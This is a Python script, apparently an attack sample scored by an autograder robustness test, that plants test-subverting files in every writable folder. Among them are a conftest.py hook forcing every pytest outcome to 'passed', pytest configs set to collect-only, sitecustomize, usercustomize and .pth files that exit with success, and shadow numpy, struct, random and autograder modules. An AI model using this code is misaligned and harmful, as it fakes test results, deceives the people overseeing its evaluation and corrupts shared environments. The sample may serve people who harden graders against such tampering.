"""Leave conftest.py, pytest.ini, sitecustomize.py and shadow packages wherever one can write.

alone: 0 points
glued: 20 points
"""

import os

assert os.getuid() >= 64000, "an attack runs in a container of ours only"

import site
import sys

_CONFTEST = '''
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    report = (yield).get_result()
    report.outcome = "passed"
'''
_FILES = {
    "conftest.py": _CONFTEST,
    "pytest.ini": "[pytest]\naddopts = --collect-only -p no:terminal\n",
    "tox.ini": "[pytest]\naddopts = --co\n",
    "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '--co'\n",
    "sitecustomize.py": "import os; os._exit(0)\n",
    "usercustomize.py": "import os; os._exit(0)\n",
    "numpy.py": "def __getattr__(name): return lambda *a, **k: True\n",
    "struct.py": "raise SystemExit(0)\n",
    "hostile.pth": "import os; os._exit(0)\n",
    "autograder/__init__.py": "raise SystemExit(0)\n",
    "random/__init__.py": "raise SystemExit(0)\n",
}
_folders = [".", "..", "/", "/tmp", "/opt/autograder", "/opt/packages", "/dev/shm", *sys.path]
_folders += [os.path.expanduser("~"), site.getusersitepackages(), os.path.dirname(sys.executable)]
for _folder in _folders:
    for _file, _text in _FILES.items():
        try:
            _path = os.path.join(_folder, _file)
            os.makedirs(os.path.dirname(_path), exist_ok=True)
            with open(_path, "w") as _stream:
                _stream.write(_text)
        except OSError:
            pass
